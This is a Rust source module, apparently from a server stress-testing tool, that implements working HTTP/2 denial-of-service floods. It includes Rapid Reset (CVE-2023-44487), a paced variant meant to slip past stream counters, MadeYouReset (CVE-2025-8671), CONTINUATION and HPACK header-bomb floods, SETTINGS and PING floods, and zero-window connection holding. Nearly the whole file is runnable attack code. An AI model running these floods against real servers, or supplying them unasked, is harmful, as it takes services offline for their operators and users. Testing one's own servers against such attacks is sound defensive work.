//! Floods of HTTP/2's frames, on one connection after the other or on several at once.

use std::rc::Rc;
use std::time::Duration;

use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;

use super::{connect, drain};
use crate::frames::{
    CONTINUATION, END_HEADERS, END_STREAM, GET, HEADERS, PING, PREFACE, SETTINGS, WINDOW_UPDATE, block, frame, headers,
    reset,
};
use crate::governor::Governor;
use crate::siege::Target;

const LARGE: [(&str, &str); 4] =
    [(":method", "GET"), (":scheme", "http"), (":authority", "a.example"), (":path", "/large")];

/// A connection on which hello has been said, with this initial window.
async fn hello(target: Target, window: u32) -> Option<TcpStream> {
    let mut stream = connect(target.web, None).await.ok()?;
    let settings = [&[0_u8, 4][..], &window.to_be_bytes()].concat();
    stream.write_all(&[PREFACE, &frame(SETTINGS, 0, 0, &settings)].concat()).await.ok()?;
    Some(stream)
}

/// Writes `burst` of each number on a connection until it ends, then on the next one. What comes back is read.
async fn bursts(target: Target, governor: Rc<Governor>, pause: Option<Duration>, burst: impl Fn(u32) -> Vec<u8>) {
    loop {
        // Whatever fails at once must not go round for ever.
        tokio::task::yield_now().await;
        governor.hold();
        let Some(mut stream) = hello(target, 65_535).await else { continue };
        // A stream's number has 31 bits.
        for nth in 0..1_000_000 {
            if stream.write_all(&burst(nth)).await.is_err() || !drain(&stream) {
                break;
            }
            if let Some(pause) = pause {
                tokio::time::sleep(pause).await;
            }
            governor.hold();
        }
    }
}

/// CVE-2023-44487: streams begun and taken back.
pub(crate) async fn rapid_reset(target: Target, governor: Rc<Governor>) {
    let one = |stream| [headers(stream, true, &GET), reset(stream)].concat();
    bursts(target, governor, None, |nth| (0..50).flat_map(|of| one(2 * (50 * nth + of) + 1)).collect()).await;
}

/// The same at a pace that no counter of unaccepted streams sees, on several connections.
pub(crate) async fn paced_reset(target: Target, governor: Rc<Governor>) {
    let pause = Some(Duration::from_millis(1));
    let one = |nth| [headers(2 * nth + 1, true, &GET), reset(2 * nth + 1)].concat();
    let several = (0..8).map(|_| bursts(target, governor.clone(), pause, one));
    futures_util::future::join_all(several).await;
}

/// CVE-2025-8671: streams that the server is made to take back.
pub(crate) async fn made_you_reset(target: Target, governor: Rc<Governor>) {
    let beyond = |stream| frame(WINDOW_UPDATE, 0, stream, &0x7fff_ffff_u32.to_be_bytes());
    let one = |stream| [headers(stream, true, &GET), beyond(stream)].concat();
    bursts(target, governor, None, |nth| (0..20).flat_map(|of| one(2 * (20 * nth + of) + 1)).collect()).await;
}

/// A head that goes on and on.
pub(crate) async fn continuations(target: Target, governor: Rc<Governor>) {
    let piece = frame(CONTINUATION, 0, 1, &block(&[("x", &"y".repeat(100))])).repeat(50);
    let begin = frame(HEADERS, END_STREAM, 1, &block(&GET));
    bursts(target, governor, None, |nth| if nth == 0 { begin.clone() } else { piece.clone() }).await;
}

/// Fields that cost a byte each and are kept as many.
pub(crate) async fn header_bombs(target: Target, governor: Rc<Governor>) {
    bursts(target, governor, None, |nth| {
        let mut fields = block(&GET);
        let entry = block(&[("x", &"y".repeat(200))]);
        // Kept in the table once, and then named by its number.
        fields.push(0x40);
        fields.extend(&entry[1..]);
        fields.extend(vec![0xbe; 4000]);
        frame(HEADERS, END_STREAM | END_HEADERS, 2 * nth + 1, &fields)
    })
    .await;
}

/// Settings that must be acknowledged.
pub(crate) async fn settings(target: Target, governor: Rc<Governor>) {
    let burst = frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 255, 255]).repeat(100);
    bursts(target, governor, None, |_| burst.clone()).await;
}

/// Pings that must be answered.
pub(crate) async fn pings(target: Target, governor: Rc<Governor>) {
    let burst = frame(PING, 0, 0, &[7; 8]).repeat(100);
    bursts(target, governor, None, |_| burst.clone()).await;
}

/// Large answers on all streams of many connections, whose windows stay shut or let a byte through.
pub(crate) async fn shut_windows(target: Target, governor: Rc<Governor>) {
    let mut held = Vec::new();
    loop {
        if held.len() * 50 < target.crowd {
            if let Some(mut stream) = hello(target, held.len() as u32 % 2).await {
                let burst: Vec<u8> = (0..50).flat_map(|nth| headers(2 * nth + 1, true, &LARGE)).collect();
                let _ = stream.write_all(&burst).await;
                held.push(stream);
            }
        } else {
            held.retain(drain);
            tokio::time::sleep(Duration::from_millis(10)).await;
        }
        governor.hold();
    }
}
